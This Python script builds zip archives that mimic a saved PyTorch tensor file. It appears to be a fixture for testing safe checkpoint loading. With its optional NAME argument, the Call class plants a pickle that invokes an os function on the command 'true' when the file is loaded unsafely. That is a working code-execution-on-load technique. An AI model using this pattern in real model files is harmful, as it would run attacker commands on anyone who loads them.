"""Writes the float32 numbers of FROM as PyTorch stores one tensor: torch_tensor.py FROM TO [ROWS [NAME]]

With NAME the file calls that function of `os` where it is opened without care.
"""

import collections
import io
import os
import pickle
import sys
import types
import zipfile
from pathlib import Path

torch, utils = types.ModuleType("torch"), types.ModuleType("torch._utils")
torch.FloatStorage = type("FloatStorage", (), {"__module__": "torch", "__qualname__": "FloatStorage"})
utils._rebuild_tensor_v2 = lambda *_: None
utils._rebuild_tensor_v2.__module__ = "torch._utils"
utils._rebuild_tensor_v2.__qualname__ = utils._rebuild_tensor_v2.__name__ = "_rebuild_tensor_v2"
sys.modules |= {"torch": torch, "torch._utils": utils}


class Storage:
    def __init__(self, count: int):
        self.count = count


class Tensor:
    def __init__(self, shape: tuple):
        self.shape = shape

    def __reduce__(self):
        rows, one, width = self.shape
        storage = Storage(rows * one * width)
        steps = (width, width, 1)
        hooks = collections.OrderedDict()
        return utils._rebuild_tensor_v2, (storage, 0, self.shape, steps, False, hooks)


class Call:
    def __init__(self, name: str):
        self.name = name

    def __reduce__(self):
        return getattr(os, self.name), ("true",)


class Pickler(pickle.Pickler):
    def persistent_id(self, held):
        return ("storage", torch.FloatStorage, "0", "cpu", held.count) if isinstance(held, Storage) else None


def main(given: str, to: str, rows: str = "510", name: str = "") -> None:
    numbers = Path(given).read_bytes()
    pickled = io.BytesIO()
    Pickler(pickled, 2).dump(Call(name) if name else Tensor((int(rows), 1, 256)))
    with zipfile.ZipFile(to, "w") as archive:
        root = Path(to).stem
        archive.writestr(f"{root}/data.pkl", pickled.getvalue())
        archive.writestr(f"{root}/byteorder", "little")
        archive.writestr(f"{root}/data/0", numbers)
        archive.writestr(f"{root}/version", "3\n")


if __name__ == "__main__":
    main(*sys.argv[1:])
